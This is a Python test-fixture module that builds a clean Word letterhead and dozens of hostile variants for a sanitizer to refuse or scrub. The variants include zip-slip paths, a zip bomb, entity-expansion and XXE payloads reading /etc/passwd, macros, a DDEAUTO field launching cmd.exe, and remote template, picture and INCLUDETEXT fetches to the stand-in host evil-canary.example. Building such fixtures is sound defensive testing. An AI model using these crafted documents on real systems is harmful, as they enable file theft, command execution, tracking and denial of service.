"""Letterheads as people make them, and as nobody should: a sound one, and what is done to it."""

import io
import struct
import zipfile
import zlib
from functools import cache

import docx
from docx.shared import Pt

W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
R = f'xmlns:r="{REL}"'
DOCUMENT = "word/document.xml"
TIES = "word/_rels/document.xml.rels"
CANARY = "evil-canary"
HOST = f"https://{CANARY}.example/"


def chunk(kind, content):
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))


def png(width=120, height=40, *, notes=b""):
    """A teal picture, with a note in it where wanted."""
    row = b"\0" + b"\x0b\x4f\x58" * width
    told = chunk(b"tEXt", b"Author\0" + notes) if notes else b""
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
        + told
        + chunk(b"IDAT", zlib.compress(row * height))
        + chunk(b"IEND", b"")
    )


def gif(notes=b""):
    """A black dot, with a note in it where wanted."""
    told = b"!\xfe" + bytes([len(notes)]) + notes + b"\0" if notes else b""
    start = b"GIF89a\1\0\1\0\x80\0\0" + bytes(6)
    return start + told + b"!\xf9\4\0\0\0\0\0,\0\0\0\0\1\0\1\0\0\2\2D\1\0;"


def segment(marker, content):
    return b"\xff" + bytes([marker]) + struct.pack(">H", len(content) + 2) + content


def jpeg(notes=b"", *, side=8):
    """The segments of a picture in two scans; programs would show it gray."""
    told = segment(0xE1, b"Exif\0\0" + notes) + segment(0xE2, b"MPF\0" + notes) + segment(0xFE, notes) if notes else b""
    return (
        b"\xff\xd8"
        + segment(0xE0, b"JFIF\0\1\1\0\0\1\0\1\0\0")
        + told
        + segment(0xE2, b"ICC_PROFILE\0\1\1 colors")
        + segment(0xC2, struct.pack(">BHHB", 8, side, side, 1) + b"\1\x11\0")
        + segment(0xDA, b"\1\1\0\0\0\0")
        + b"\x12\xff\x00\x34\xff\xd0\x56"
        + segment(0xC4, b"\0" * 17 + b"\xff\xd9")
        + segment(0xDA, b"\1\1\0\0\0\0")
        + b"\x12\xff\xd9"
    )


def sound(*paragraphs, logo=True, footer="Maple Street Tenants, 12 Maple Street"):
    """A letterhead with a logo and a name in its header, an address in its footer, and a style of its own."""
    document = docx.Document()
    document.styles["Normal"].font.name = "Georgia"
    document.styles["Normal"].font.size = Pt(12)
    section = document.sections[0]
    header = section.header.paragraphs[0]
    if logo:
        header.add_run().add_picture(io.BytesIO(png()), width=Pt(90))
    header.add_run("  Maple Street Tenants").bold = True
    section.footer.paragraphs[0].add_run(footer)
    for text in paragraphs:
        paragraph = document.add_paragraph()
        for run in text if isinstance(text, tuple) else (text,):
            paragraph.add_run(run)
    return saved(document)


def saved(document):
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def parts_of(content):
    with zipfile.ZipFile(io.BytesIO(content)) as package:
        return {name: package.read(name) for name in package.namelist()}


def packed(parts, method=zipfile.ZIP_DEFLATED):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as package:
        for name, content in parts.items():
            package.writestr(zipfile.ZipInfo(name), content, method)
    return buffer.getvalue()


@cache
def plain():
    return sound("Dear Council", "{{testimony}}", "Yours")


def changed(changes, base=None):
    """A letterhead in which parts are replaced, or changed by a function."""
    parts = parts_of(base or plain())
    for name, change in changes.items():
        parts[name] = change(parts[name]) if callable(change) else change
    return packed(parts)


def in_body(xml):
    """What stands at the start of the body."""
    return lambda content: content.replace(b"<w:body>", b"<w:body>" + xml.encode(), 1)


def tied(kind, target, name="rId99", *, external=False):
    mode = ' TargetMode="External"' if external else ""
    row = f'<Relationship Id="{name}" Type="{REL}/{kind}" Target="{target}"{mode}/>'
    return lambda content: content.replace(b"</Relationships>", row.encode() + b"</Relationships>")


def with_body(xml, **more):
    return changed({DOCUMENT: in_body(xml), **more})


def field(code, shown="shown"):
    return (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        f"<w:r><w:instrText>{code}</w:instrText></w:r>"
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        f'<w:r><w:t>{shown}</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


def text(words):
    return f"<w:p><w:r><w:t>{words}</w:t></w:r></w:p>"


def settings(xml):
    return lambda content: content.replace(b"<w:zoom", xml.encode() + b"<w:zoom", 1)


def drawing(blip, uri="http://schemas.openxmlformats.org/drawingml/2006/picture"):
    space = "http://schemas.openxmlformats.org/drawingml/2006"
    return (
        f'<w:p><w:r><w:drawing><wp:inline xmlns:wp="{space}/wordprocessingDrawing"><wp:extent cx="9" cy="9"/>'
        f'<wp:docPr id="1" name="C:\\Users\\{CANARY}\\logo.png"/><a:graphic xmlns:a="{space}/main"><a:graphicData uri="{uri}">'
        f'<pic:pic xmlns:pic="{space}/picture"><pic:nvPicPr><pic:cNvPr id="1" name="x"/><pic:cNvPicPr/></pic:nvPicPr>'
        f"<pic:blipFill>{blip}<a:stretch><a:fillRect/></a:stretch></pic:blipFill><pic:spPr/></pic:pic>"
        "</a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>"
    )


def text_box(words):
    """A text box as Word writes it: a drawing of today, and one of old for those who do not know it."""
    box = f"<w:txbxContent>{text(words)}</w:txbxContent>"
    space = "http://schemas.openxmlformats.org/drawingml/2006"
    shape = "http://schemas.microsoft.com/office/word/2010/wordprocessingShape"
    return (
        '<w:p><w:r><mc:AlternateContent xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006">'
        f'<mc:Choice xmlns:wps="{shape}" Requires="wps"><w:drawing><wp:inline xmlns:wp="{space}/wordprocessingDrawing">'
        f'<wp:extent cx="1800000" cy="360000"/><wp:docPr id="7" name="b"/><a:graphic xmlns:a="{space}/main">'
        f'<a:graphicData uri="{shape}"><wps:wsp><wps:cNvSpPr txBox="1"/><wps:spPr/><wps:txbx>{box}</wps:txbx><wps:bodyPr/>'
        "</wps:wsp></a:graphicData></a:graphic></wp:inline></w:drawing></mc:Choice><mc:Fallback><w:pict>"
        f'<v:shape xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" '
        f'href="{HOST}" o:gfxdata="{CANARY}"><v:textbox>{box}</v:textbox></v:shape></w:pict></mc:Fallback>'
        "</mc:AlternateContent></w:r></w:p>"
    )


def equation(words):
    """An equation as Word writes it: a fraction, of which each half has a run of its own."""
    half = f'<m:r><w:rPr><w:rFonts w:ascii="Cambria Math"/></w:rPr><m:t>{words}</m:t></m:r>'
    halves = f"<m:num>{half}</m:num><m:den>{half}</m:den>"
    fraction = f"<m:f><m:fPr><m:ctrlPr><w:rPr><w:i/></w:rPr></m:ctrlPr></m:fPr>{halves}</m:f>"
    return f'<m:oMath xmlns:m="http://schemas.openxmlformats.org/officeDocument/2006/math">{fraction}</m:oMath>'


def shown_equation(words):
    """One that stands by itself, as in a paragraph of its own."""
    space = 'xmlns:m="http://schemas.openxmlformats.org/officeDocument/2006/math"'
    return f'<m:oMathPara {space}><m:oMathParaPr><m:jc m:val="left"/></m:oMathParaPr>{equation(words)}</m:oMathPara>'


def entry(name, content=b"x", mode=0):
    """A letterhead with one more file of this name, as a zip may hold it."""
    buffer = io.BytesIO(sound("{{testimony}}"))
    with zipfile.ZipFile(buffer, "a") as package:
        info = zipfile.ZipInfo("x")
        info.filename = info.orig_filename = name
        info.external_attr = mode << 16
        package.writestr(info, content, zipfile.ZIP_DEFLATED)
    return buffer.getvalue()


def entities(system=""):
    """A document with entities that grow, or that fetch a file."""
    lines = [f"<!ENTITY a0 {system or chr(34) + 'ha' * 20 + chr(34)}>"]
    lines += [f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 9)]
    start = f"<!DOCTYPE w:document [{''.join(lines)}]>".encode()
    return lambda content: content.replace(b"<w:document", start + b"<w:document", 1).replace(
        b"<w:body>", b"<w:body><w:p><w:r><w:t>&a8;</w:t></w:r></w:p>", 1
    )


def macro_kind(content):
    main = b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    return content.replace(main, b"application/vnd.ms-word.document.macroEnabled.main+xml")


def with_parts(**parts):
    """Parts beside the document, tied to it by the kind that names them."""
    return {f"word/{name}": content for name, content in parts.items()}


SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><image href="https://evil-canary.example/a.png"/></svg>'
LINKED = '<a:blip r:link="rId99"/>'
EMBEDDED = '<a:blip r:embed="rId99"/>'
SOURCE = f"<w:r><w:t>{CANARY}</w:t></w:r>"

REFUSED = {
    "nothing": (b"", "letterhead_not_word"),
    "text": (b"Dear Council", "letterhead_not_word"),
    "old Word or locked": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "letterhead_old_word"),
    "a zip of something else": (packed({"a.txt": b"x"}), "letterhead_not_word"),
    "half a file": (sound("{{testimony}}")[:-400], "letterhead_not_word"),
    "no main part": (changed({"_rels/.rels": lambda old: old.replace(b"word/document.xml", b"word/other.xml")}), "letterhead_not_word"),
    "main part outside": (changed({"_rels/.rels": lambda old: old.replace(b'"word/document.xml"', f'"{HOST}" TargetMode="External"'.encode())}), "letterhead_not_word"),
    "broken XML": (changed({DOCUMENT: lambda old: old[:-30]}), "letterhead_broken"),
    "a theme that is none": (changed({"word/theme/theme1.xml": f"<a xmlns='{HOST}'/>".encode()}), "letterhead_broken"),
    "strict form": (changed({DOCUMENT: lambda old: old.replace(b"http://schemas.openxmlformats.org/wordprocessingml/2006/main", b"http://purl.oclc.org/ooxml/wordprocessingml/main")}), "letterhead_not_word"),
    "macros": (changed({"word/vbaProject.bin": b"macro", TIES: tied("vbaProject", "vbaProject.bin")}), "letterhead_macros"),
    "kind with macros": (changed({"[Content_Types].xml": macro_kind}), "letterhead_macros"),
    "growing entities": (changed({DOCUMENT: entities()}), "letterhead_entities"),
    "entity that reads a file": (changed({DOCUMENT: entities('SYSTEM "file:///etc/passwd"')}), "letterhead_entities"),
    "entities in UTF-16": (changed({DOCUMENT: lambda old: entities()(old).decode().replace('encoding="UTF-8"', 'encoding="UTF-16"').replace("encoding='UTF-8'", 'encoding="UTF-16"').encode("utf-16")}), "letterhead_entities"),
    "zip slip": (entry("../../evil.txt"), "archive_bad_entry"),
    "absolute path": (entry("/etc/evil"), "archive_bad_entry"),
    "backslashes": (entry("word\\..\\evil"), "archive_bad_entry"),
    "a link": (entry("word/link", b"/etc/passwd", 0o120777), "archive_bad_entry"),
    "the same name in capitals": (entry("WORD/DOCUMENT.XML"), "archive_bad_entry"),
    "a zip bomb": (entry("word/media/bomb.png", bytes(30_000_000)), "archive_bomb"),
    "too many files": (changed({f"word/media/{number}.png": b"x" for number in range(600)}), "archive_too_many_files"),
    "a very long document": (changed({DOCUMENT: lambda old: old.replace(b"<w:body>", b"<w:body>" + "".join(text(f"{n * 7919 % 99991}") for n in range(120_000)).encode())}), "letterhead_too_long"),
    "two places": (sound("{{testimony}}", "{{testimony}}"), "letterhead_two_places"),
    "place in the footer": (sound("Dear Council", footer="{{testimony}}"), "letterhead_bad_place"),
    "place in a text box": (with_body(text_box("{{testimony}}")), "letterhead_two_places"),
    "only place in a text box": (changed({DOCUMENT: in_body(text_box("{{testimony}}"))}, sound("Dear")), "letterhead_bad_place"),
    "too deep": (with_body("<w:smartTag>" * 400 + "</w:smartTag>" * 400), "letterhead_broken"),
}  # fmt: skip
"""What is refused: its bytes, and the code of the error."""

SCRUBBED = {
    "as python-docx makes it": (sound("{{testimony}}"), set()),
    "a link": (with_body(f'<w:p><w:hyperlink {R} r:id="rId99">{SOURCE.replace(CANARY, "our page")}</w:hyperlink></w:p>', **{TIES: tied("hyperlink", HOST, external=True)}), {"links"}),
    "a link by a field": (with_body(field(f'HYPERLINK "{HOST}"')), {"fields"}),
    "a template elsewhere": (changed({"word/settings.xml": settings(f'<w:attachedTemplate {R} r:id="rId1"/>'), "word/_rels/settings.xml.rels": f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="{REL}/attachedTemplate" Target="{HOST}t.dotm" TargetMode="External"/></Relationships>'.encode()}), {"outside_template"}),
    "a picture elsewhere": (with_body(drawing(f'<a:blip {R} r:link="rId99"/>'), **{TIES: tied("image", f"{HOST}a.png", external=True)}), {"links"}),
    "a picture on a server": (with_body(drawing(f'<a:blip {R} r:link="rId99"/>'), **{TIES: tied("image", f"\\\\{CANARY}\\share\\a.png", external=True)}), {"links"}),
    "an address that does not say so": (with_body(drawing(f'<a:blip {R} r:embed="rId99"/>'), **{TIES: tied("image", f"{HOST}a.png")}), {"links", "pictures"}),
    "an old picture elsewhere": (with_body(f'<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml"><v:imagedata {R} r:href="rId99" src="{HOST}"/></v:shape></w:pict></w:r></w:p>', **{TIES: tied("image", f"{HOST}a.png", external=True)}), {"links"}),
    "an SVG": (changed({DOCUMENT: in_body(drawing(f'<a:blip {R} r:embed="rId99"/>')), TIES: tied("image", "media/a.svg"), "word/media/a.svg": SVG}), {"pictures"}),
    "an SVG by the name of a PNG": (changed({DOCUMENT: in_body(drawing(f'<a:blip {R} r:embed="rId99"/>')), TIES: tied("image", "media/a.png"), "word/media/a.png": SVG}), {"pictures"}),
    "a picture with notes": (changed({"word/media/image1.png": png(notes=CANARY.encode())}), {"picture_notes"}),
    "a GIF with notes": (changed({"word/media/image1.png": gif(CANARY.encode())}), {"picture_notes"}),
    "a JPEG with notes": (changed({"word/media/image1.png": jpeg(CANARY.encode())}), {"picture_notes"}),
    "a JPEG with a film behind it": (changed({"word/media/image1.png": jpeg() + CANARY.encode()}), {"picture_notes"}),
    "a PNG with what a program adds": (changed({"word/media/image1.png": lambda old: old[:-12] + chunk(b"caBX", CANARY.encode()) + old[-12:]}), {"picture_notes"}),
    "a PNG with more behind its end": (changed({"word/media/image1.png": lambda old: old + CANARY.encode()}), {"picture_notes"}),
    "a TIFF": (changed({"word/media/image1.png": b"II*\0\x08\0\0\0" + CANARY.encode()}), {"pictures"}),
    "half a JPEG": (changed({"word/media/image1.png": jpeg()[:40]}), {"pictures"}),
    "a JPEG of 60,000 by 60,000": (changed({"word/media/image1.png": jpeg(side=60_000)}), {"pictures"}),
    "a path where a picture is described": (with_body(drawing(f'<a:blip {R} r:embed="rId99"/>').replace("<wp:docPr ", f'<wp:docPr descr="C:\\Users\\{CANARY}\\a.png" title="{HOST}" '), **{TIES: tied("image", "media/image1.png")}), set()),
    "a picture of 40,000 by 40,000": (changed({"word/media/image1.png": lambda old: old.replace(struct.pack(">II", 120, 40), struct.pack(">II", 40_000, 40_000))}), {"pictures"}),
    "an object": (with_body(f'<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" {R} Type="Embed" ProgID="Package" r:id="rId99"/></w:object></w:r></w:p>', **{TIES: tied("oleObject", "embeddings/a.bin"), "word/embeddings/a.bin": CANARY.encode()}), {"embedded"}),
    "a button": (with_body(f'<w:p><w:r><w:control {R} r:id="rId99" w:name="{CANARY}"/></w:r></w:p>', **{TIES: tied("control", "activeX/a.xml"), "word/activeX/a.xml": b"<a/>"}), {"embedded"}),
    "another document put in": (with_body(f'<w:altChunk {R} r:id="rId99"/>', **{TIES: tied("aFChunk", "a.html"), "word/a.html": f'<img src="{HOST}">'.encode()}), {"other_documents"}),
    "a part of a master document": (with_body(f'<w:subDoc {R} r:id="rId99"/>', **{TIES: tied("subDocument", f"{HOST}a.docx", external=True)}), {"other_documents"}),
    "data bound to a field": (with_body(f'<w:sdt><w:sdtPr><w:dataBinding w:xpath="/a" w:storeItemID="{CANARY}"/></w:sdtPr><w:sdtContent>{text("Kept")}</w:sdtContent></w:sdt>', **{TIES: tied("customXml", "../customXml/item9.xml"), "customXml/item9.xml": f"<a>{CANARY}</a>".encode()}), {"hidden_data"}),
    "a field that fetches a picture": (with_body(field(f'INCLUDEPICTURE "{HOST}a.png"')), {"fields"}),
    "a field that fetches text": (with_body(field(f'INCLUDETEXT "{HOST}a.docx"')), {"fields"}),
    "a field that starts a program": (with_body(field(f'DDEAUTO c:\\\\windows\\\\cmd.exe "{CANARY}"')), {"fields"}),
    "a field in a field": (with_body(field(f'IF {CANARY} = 1 </w:instrText></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDE {CANARY}</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r>{SOURCE}<w:r><w:fldChar w:fldCharType="end"/></w:r><w:r><w:instrText> x')), {"fields"}),
    "a field without an end": (with_body(f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDE {CANARY}</w:instrText></w:r></w:p>'), {"fields"}),
    "a short field": (with_body(f'<w:p><w:fldSimple w:instr="INCLUDETEXT {CANARY}"><w:r><w:t>shown</w:t></w:r></w:fldSimple></w:p>'), {"fields"}),
    "comments": (with_body('<w:p><w:commentRangeStart w:id="0"/><w:r><w:t>Hi</w:t></w:r><w:commentRangeEnd w:id="0"/><w:r><w:commentReference w:id="0"/></w:r></w:p>', **{TIES: tied("comments", "comments9.xml"), "word/comments9.xml": f'<w:comments {W}><w:comment w:id="0" w:author="{CANARY}">{text(CANARY)}</w:comment></w:comments>'.encode()}), {"comments"}),
    "tracked changes": (with_body(f'<w:p><w:pPr><w:rPr><w:ins w:author="{CANARY}"/></w:rPr><w:pPrChange w:author="{CANARY}"><w:pPr/></w:pPrChange></w:pPr><w:ins w:author="{CANARY}"><w:r><w:t>Put in</w:t></w:r></w:ins><w:del w:author="{CANARY}"><w:r><w:delText>{CANARY}</w:delText></w:r></w:del></w:p>'), {"changes"}),
    "a deleted row": (with_body(f'<w:tbl><w:tblPr/><w:tblGrid/><w:tr><w:tc>{text("Stays")}</w:tc></w:tr><w:tr><w:trPr><w:del w:author="{CANARY}"/></w:trPr><w:tc>{text(CANARY)}</w:tc></w:tr></w:tbl>'), {"changes"}),
    "names in properties": (changed({"docProps/core.xml": lambda old: old.replace(b"python-docx", CANARY.encode())}), {"properties"}),
    "a company": (changed({"docProps/app.xml": lambda old: old.replace(b"<Company></Company>", f"<Company>{CANARY}</Company>".encode())}), {"properties"}),
    "a picture of itself": (changed({"docProps/thumbnail.jpeg": CANARY.encode()}), {"thumbnail"}),
    "an embedded typeface": (changed({"word/fontTable.xml": lambda old: old.replace(b"</w:font>", f'<w:embedRegular {R} r:id="rId1"/></w:font>'.encode(), 1)}), {"fonts"}),
    "a mail merge": (changed({"word/settings.xml": settings(f'<w:mailMerge><w:connectString w:val="{CANARY}"/></w:mailMerge>')}), {"mail_merge"}),
    "a lock": (changed({"word/settings.xml": settings(f'<w:documentProtection w:edit="readOnly" w:hash="{CANARY}"/>')}), {"protection"}),
    "variables": (changed({"word/settings.xml": settings(f'<w:docVars><w:docVar w:name="a" w:val="{CANARY}"/></w:docVars>')}), {"hidden_data"}),
    "hidden words": (with_body(f"<w:p><w:r><w:t>Seen</w:t></w:r><w:r><w:rPr><w:vanish/></w:rPr><w:t>{CANARY}</w:t></w:r></w:p>"), {"hidden_data"}),
    "words hidden by a style": (with_body(f'<w:p><w:pPr><w:pStyle w:val="Below"/></w:pPr>{SOURCE}</w:p>', **{"word/styles.xml": lambda old: old.replace(b"</w:styles>", b'<w:style w:type="paragraph" w:styleId="Hides"><w:name w:val="Hides"/><w:rPr><w:vanish/></w:rPr></w:style><w:style w:type="paragraph" w:styleId="Below"><w:name w:val="Below"/><w:basedOn w:val="Hides"/></w:style></w:styles>')}), {"hidden_data"}),
    "hyphens and tab stops as in Germany": (changed({"word/settings.xml": lambda old: old.replace(b'<w:defaultTabStop w:val="720"/>', b'<w:defaultTabStop w:val="708"/><w:autoHyphenation/><w:hyphenationZone w:val="425"/><w:evenAndOddHeaders/>')}), set()),
    "footnotes": (with_body('<w:p><w:r><w:footnoteReference w:id="2"/></w:r></w:p>', **{TIES: tied("footnotes", "footnotes.xml"), "word/footnotes.xml": f"<w:footnotes {W}>{text(CANARY)}</w:footnotes>".encode()}), {"notes"}),
    "an equation": (with_body(f"<w:p>{shown_equation(CANARY)}</w:p>"), {"equations"}),
    "an equation amid words": (with_body(f"<w:p><w:r><w:t>Half is </w:t></w:r>{equation(CANARY)}<w:r><w:t> of it</w:t></w:r></w:p>"), {"equations"}),
    "an equation outside of paragraphs": (with_body(shown_equation(CANARY)), {"equations"}),
    "an equation in a footer": (changed({"word/footer1.xml": lambda old: old.replace(b"</w:p>", f"{equation(CANARY)}</w:p>".encode(), 1)}), {"equations"}),
    "an equation that only newer programs show": (with_body(f'<w:p><mc:AlternateContent xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"><mc:Choice xmlns:n="{HOST}n" Requires="n">{equation(CANARY)}</mc:Choice></mc:AlternateContent></w:p>'), {"equations"}),
    "an equation that was taken out": (with_body(f'<w:p><w:del w:author="{CANARY}">{equation(CANARY)}</w:del></w:p>'), {"changes"}),
    "how equations are set": (changed({"word/settings.xml": settings(f'<m:mathPr xmlns:m="http://schemas.openxmlformats.org/officeDocument/2006/math"><m:mathFont m:val="{CANARY}"/></m:mathPr>')}), set()),
    "a chart": (with_body(drawing("", "http://schemas.openxmlformats.org/drawingml/2006/chart")), {"drawings"}),
    "building blocks": (changed({TIES: tied("glossaryDocument", "glossary/document.xml"), "word/glossary/document.xml": CANARY.encode()}), {"other_parts"}),
    "a signature": (changed({"_rels/.rels": lambda old: old.replace(b"</Relationships>", b'<Relationship Id="rId77" Type="http://schemas.openxmlformats.org/package/2006/relationships/digital-signature/origin" Target="_xmlsignatures/origin.sigs"/></Relationships>'), "_xmlsignatures/origin.sigs": CANARY.encode()}), {"signature"}),
    "links on drawings, paths in names": (with_body(text_box("Suite 4") + drawing(f'<a:blip {R} r:embed="rId99"><a:extLst><a:ext uri="{CANARY}"/></a:extLst></a:blip>'), **{TIES: tied("image", "media/image1.png")}), set()),
    "a style sheet for XML": (changed({DOCUMENT: lambda old: old.replace(b"<w:document", f'<?xml-stylesheet href="{HOST}"?><!--{CANARY}--><w:document'.encode(), 1)}), set()),
    "a printer, marks of edits": (changed({DOCUMENT: lambda old: old.replace(b"<w:sectPr", f'<w:bookmarkStart w:id="0" w:name="{CANARY}"/><w:bookmarkEnd w:id="0"/><w:sectPr w:rsidDel="0{CANARY}"'.encode(), 1)}), set()),
    "no styles, no settings": (packed({name: content if name != TIES else b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"/>' for name, content in parts_of(sound("Dear", logo=False)).items()}), set()),
    "capitals in names of parts": (packed({name.replace("word/header", "Word/HEADER"): content for name, content in parts_of(sound("{{testimony}}", logo=False)).items()}), set()),
}  # fmt: skip
"""What is taken in: its bytes, and what is told at least to be taken out."""
